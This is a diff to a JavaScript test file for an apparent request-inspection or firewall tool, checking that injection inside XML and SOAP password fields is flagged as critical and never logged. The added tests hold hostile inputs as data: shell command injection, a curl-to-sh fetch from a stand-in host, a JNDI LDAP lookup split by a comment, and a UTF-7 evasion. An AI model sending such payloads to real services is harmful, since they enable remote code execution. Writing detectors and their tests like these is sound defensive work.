@@ -204,7 +204,7 @@ describe('password fields', () => {
       assert.ok(!found.some((f) => f.fragment?.includes('HPcF') === true || f.explanation.includes('HPcF')));
     };
     // Non-ASCII names, a password attribute after one, a SOAP body cut at the inspected size.
-    quiet('<login><名前>ボブ</名前><password>$(HPcF$ajjhm1B)</password></login>');
+    quiet('<s:Envelope xmlns:s="x"><s:Body><login><名前>ボブ</名前><password>$(HPcF$ajjhm1B)</password></login></s:Body></s:Envelope>');
     quiet('<login größe="1" password="$(HPcF$a>jjhm1B)"/>');
     quiet(`<Envelope><Body><Up><password>$(HPcF$ajjhm1B)</password><file>${'QUJD'.repeat(40_000)}</file></Up></Body></Envelope>`);
     // Decoy tags a Unicode attribute name used to unbalance: the host is no password.
@@ -213,6 +213,24 @@ describe('password fields', () => {
     const doctype = inspector.inspect(post('/soap', 'text/xml', '<!DOCTYPE l><login><password>$(HPcF$ajjhm1B)</password></login>'));
     assert.ok(doctype.some((f) => f.severity === 'critical'));
     assert.ok(!doctype.some((f) => f.fragment?.includes('HPcF') === true || f.explanation.includes('HPcF')), JSON.stringify(doctype));
+  });
+
+  test('a ninth review: a password nested in a field, or outside a SOAP record, is judged in full and never recorded', () => {
+    for (const xml of [
+      '<r><host><password>127.0.0.1;id</password></host></r>',
+      '<r><host>127.0.0.1<password>;id</password></host></r>',
+      '<s:Envelope xmlns:s="x"><s:Body><r><cmd><pwd>$(curl -s http://evil.example/x|sh)</pwd></cmd></r></s:Body></s:Envelope>',
+    ]) {
+      const found = inspector.inspect(post('/soap', 'text/xml', xml));
+      assert.ok(found.some((f) => f.severity === 'critical'), `${xml}: ${JSON.stringify(found)}`);
+      assert.ok(found.filter((f) => f.category === 'cmdi').every((f) => f.fragment === '‹a password field: not recorded›'), JSON.stringify(found));
+    }
+    // Text split by a comment or CDATA is one value, as parsers join it.
+    assert.equal(top(post('/x', 'application/xml', '<r><host>127.0.0.1;<![CDATA[id]]></host></r>')), RANK.critical);
+    assert.equal(top(post('/x', 'application/xml', '<r><name>${jn<!---->di:ldap://evil.example/a}</name></r>')), RANK.critical);
+    // An encoding this reading cannot follow hides the whole document.
+    const utf7 = inspector.inspect(post('/x', 'application/xml', '<?xml version="1.0" encoding="UTF-7"?><r><host>127.0.0.1+ADs-id</host></r>'));
+    assert.ok(utf7.some((f) => f.ruleId === 'protocol.xml-encoding' && f.severity === 'critical'), JSON.stringify(utf7));
   });
 
   test('field names past 128 characters are judged but not kept (1,024 body-sized keys held 160 MB)', () => {
